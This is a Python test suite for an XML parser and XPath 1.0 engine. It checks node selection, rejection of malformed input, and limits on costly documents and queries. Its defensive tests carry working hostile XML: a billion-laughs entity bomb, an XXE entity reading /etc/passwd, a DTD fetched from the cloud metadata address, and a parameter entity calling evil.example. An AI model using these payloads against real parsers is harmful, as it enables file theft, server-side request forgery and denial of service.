"""XML and XPath 1.0: what is selected, what is refused, what a hostile document or query may cost."""

from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from postroom.content.ampscript.budget import Budget
from postroom.content.ampscript.faults import Fault, LimitFault, ValueFault
from postroom.content.ampscript.xml_tree import parse_xml
from postroom.content.ampscript.xpath import select_nodes

SHOP = (
    '<shop><?keep it?><!-- note --><book id="1" lang="en"><t>One</t><p>5</p></book><book id="2"><t>Two &amp; more</t>'
    '<p>12.5</p></book><cd id="3"><t>Tri</t><p>x</p></cd><ns:extra>e</ns:extra></shop>'
)


def sources(path: str, xml: str = SHOP) -> list[str]:
    return [node.source() for node in select_nodes(parse_xml(xml), path, Budget(None, 1))]


def texts(path: str) -> list[str]:
    return [node.text() for node in select_nodes(parse_xml(SHOP), path, Budget(None, 1))]


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("//t", ["One", "Two & more", "Tri"]),
        ("/shop/book[2]/t", ["Two & more"]),
        ("//book[@id='2']/p", ["12.5"]),
        ("//@id", ["1", "2", "3"]),
        ("//book[last()]/@id", ["2"]),
        ("(//t)[last()]", ["Tri"]),
        ("//t[.='One' or .='Tri']", ["One", "Tri"]),
        ("//p[. > 4 and . < 10]", ["5"]),
        ("//book[p*2=25]/t", ["Two & more"]),
        ("//*[t][position() mod 2 = 1]/@id", ["1", "3"]),
        ("//*[local-name()='extra']", ["e"]),
        ("//ns:extra", ["e"]),
        ("//ns:*", ["e"]),
        ("//cd/preceding-sibling::book[1]/@id", ["2"]),
        ("//book[1]/following-sibling::*/@id", ["2", "3"]),
        ("//book[1]/following::t", ["Two & more", "Tri"]),
        ("//cd/preceding::t", ["One", "Two & more"]),
        ("//t[ancestor::cd]", ["Tri"]),
        ("//p/ancestor-or-self::*[@id='1']/t", ["One"]),
        ("//t/parent::book/@id | //cd/@id", ["1", "2", "3"]),
        ("//t/../@lang", ["en"]),
        ("//book[@lang]/descendant::text()", ["One", "5"]),
        ("//book/self::node()[not(@lang)]/t", ["Two & more"]),
        ("//book[starts-with(t,'Tw') and contains(t,'more')]/@id", ["2"]),
        ("//book[substring(t,1,2)='On']/@id", ["1"]),
        ("//book[substring-before(t,' ')='Two']/@id", ["2"]),
        ("//book[substring-after(t,'& ')='more']/@id", ["2"]),
        ("//*[string-length(t)=3]/@id", ["1", "3"]),
        ("//t[normalize-space(concat(' ',.,' '))='Tri']", ["Tri"]),
        ("//t[translate(.,'OTne','ot')='o']", ["One"]),
        ("//shop[count(book)=2 and sum(book/p)=17.5]/cd/t", ["Tri"]),
        ("//*[floor(p)=12 and ceiling(p)=13 and round(p)=13]/@id", ["2"]),
        ("//cd[number(p)!=number(p)]/@id", ["3"]),
        ("//cd[boolean(@id) and true() and not(false())]/@id", ["3"]),
        ("//cd[string(@nope)='' and name()='cd']/@id", ["3"]),
        ("//book[-1 < p div 0]/@id", ["1", "2"]),
        ("//t[. = //cd/t]", ["Tri"]),
        ("//comment()", [" note "]),
        ("//processing-instruction('keep')", ["it"]),
        ("//book[3]", []),
        ("//nothing", []),
        ("shop/book/t[1]", ["One", "Two & more"]),
        ("//*[p=1 or @id=3]/t", ["Tri"]),
        ("//book[position()<last()]/t", ["One"]),
        ("id/div", []),
    ],
)
def test_selection(path: str, found: list[str]) -> None:
    assert texts(path) == found


def test_nodes_are_written_as_they_would_be_read() -> None:
    assert sources("//book[2]/t") == ["<t>Two &amp; more</t>"]
    assert sources("/") == [SHOP]
    assert sources("//@lang") == ['lang="en"']
    assert sources("//a", '<r><a b="&quot;&lt;"/></r>') == ["<a b='\"&lt;' />"]


@pytest.mark.parametrize(
    "path",
    [
        "", "//", "//t[", "//t]", "//t[]", "count(//t)", "1+1", "'text'", "foo()", "//t[foo()]", "//t[$x]", "a::b",
        "//t[1",
        "count(1)/a", "'a'|//t", "//t[substring(.)]", "//t[contains('a')]", "!", "//t[.='", "sum('x')", "@",
        "x" * 3_000, "1" + "+1" * 900,
        "(" * 100 + "//t" + ")" * 100, "-" * 1_000 + "1", "child::", "//t[name(1)='a']",
    ],
)  # fmt: skip
def test_a_query_that_cannot_be_read_or_gives_no_nodes_is_an_error(path: str) -> None:
    with pytest.raises(ValueFault):
        texts(path)


@pytest.mark.parametrize(
    "xml", ["", "text", "<a>", "<a></b>", "<a/><b/>", "<a b=1/>", "<a>\ud800</a>", "<a>&nbsp;</a>"]
)
def test_xml_that_is_not_well_formed_is_an_error(xml: str) -> None:
    with pytest.raises(ValueFault):
        parse_xml(xml)


BILLION_LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)


@pytest.mark.parametrize(
    "xml",
    [
        BILLION_LAUGHS,
        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        '<!DOCTYPE r SYSTEM "http://169.254.169.254/x.dtd"><r/>',
        '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><r/>',
    ],
    ids=["billion laughs", "external file", "external dtd", "parameter entity"],
)
def test_xxe_a_document_type_is_refused_whatever_it_holds(xml: str) -> None:
    with pytest.raises(ValueFault, match="document type"):
        parse_xml(xml)


@pytest.mark.parametrize("xml", ["<a>" * 100_000, "<r>" + "<a/>" * 60_000 + "</r>"], ids=["deep", "wide"])
def test_exhaustion_a_document_too_deep_or_wide_is_left(xml: str) -> None:
    with pytest.raises(LimitFault):
        parse_xml(xml)


@pytest.mark.parametrize(
    "path",
    [
        "//*[count(//*[count(//*) > 1]) > 1]",
        "//a/following::a/preceding::a/following::a",
        "//*[. = //*[. = //*]]",
        "//a[string(/)=string(/)]",
        "//*[contains(/, 'zz')]",
    ],
)
def test_exhaustion_a_query_that_looks_at_too_much_is_left(path: str) -> None:
    xml = "<r>" + "<a>b</a>" * 3_000 + "</r>"
    with pytest.raises(LimitFault) as limit:
        sources(path, xml)
    assert limit.value.code == "QueryLimit"


@given(st.text(alphabet="/@.[]()*|=<>!+-'\"$,:1 tbookcountlastandorpid", max_size=24))
def test_any_query_selects_or_is_refused(path: str) -> None:
    with suppress(Fault):
        assert all(isinstance(text, str) for text in texts(path))


@given(st.text(alphabet="<>/ab=\"' &;!-[]?", max_size=30))
def test_any_text_is_xml_or_refused(xml: str) -> None:
    with suppress(Fault):
        assert parse_xml(xml).children
